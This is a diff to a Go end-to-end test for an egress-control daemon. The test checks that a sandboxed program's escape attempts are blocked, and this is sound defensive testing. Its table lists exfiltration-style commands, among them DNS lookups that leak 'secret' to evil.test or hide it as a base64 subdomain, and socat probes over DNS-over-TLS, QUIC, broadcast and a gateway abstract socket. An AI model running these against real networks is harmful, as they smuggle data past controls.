@@ -109,7 +109,13 @@ func TestRunReachesWhatIsAllowed(t *testing.T) {
 // TestRunStopsWhatTriesToLeave runs escape attempts as the program would make
 // them. No packet may leave the gateway, and no name be asked for.
 func TestRunStopsWhatTriesToLeave(t *testing.T) {
+	covers(t, "KC-01", "KC-02", "KC-03", "KC-06", "KC-10", "DN-02", "DN-05", "DN-06", "DN-07", "DN-19", "DN-20", "DN-37", "TL-31", "TL-34")
 	d := newDaemon(t, runPolicy)
+	abstract, err := d.world.Gateway.Listen("unix", "@egressd-e2e")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer abstract.Close()
 	outside := exec.Command("sh", "-c", "ls /proc/self/fd | wc -l")
 	var count strings.Builder
 	outside.Stdout = &count
@@ -145,6 +151,10 @@ func TestRunStopsWhatTriesToLeave(t *testing.T) {
 			{"a name server of its choice, over IPv6", `dig +short +time=3 +tries=1 @2606:4700:4700::1111 secret.evil.test`, "100.127.", "", ""},
 			{"what is no address", `dig +time=3 +tries=1 c2VjcmV0.b.allowed.test TXT`, "status: REFUSED", "", ""},
 			{"a name server's own business", `dig +time=3 +tries=1 CH TXT version.bind`, "status: REFUSED", "", ""},
+			{"a name server over TLS and over HTTPS", `echo x | socat -t1 - TCP:1.1.1.1:853; curl -sS -m9 https://1.1.1.1/dns-query 2>&1`, "alert access denied", "1.1.1.1", policy.DefaultDeny},
+			{"the neighbourhood", `for a in 224.0.0.251:5353 224.0.0.252:5355 255.255.255.255:137; do echo x | socat -t1 - UDP-DATAGRAM:$a,broadcast 2>&1; done; echo done`, "done", "", ""},
+			{"QUIC", `echo x | socat -t1 - UDP:93.184.216.34:443 2>&1; echo done`, "refused", allowedIPv4, policy.UDPDenied},
+			{"an abstract socket of the gateway", `echo x | socat -t1 - ABSTRACT-CONNECT:egressd-e2e 2>&1; echo done`, "refused", "", ""},
 			{"ping", `ping -c1 -W1 151.101.1.69 2>&1; echo done`, "done", "", ""},
 			{"other kinds of sockets", `python3 -c '
 import socket
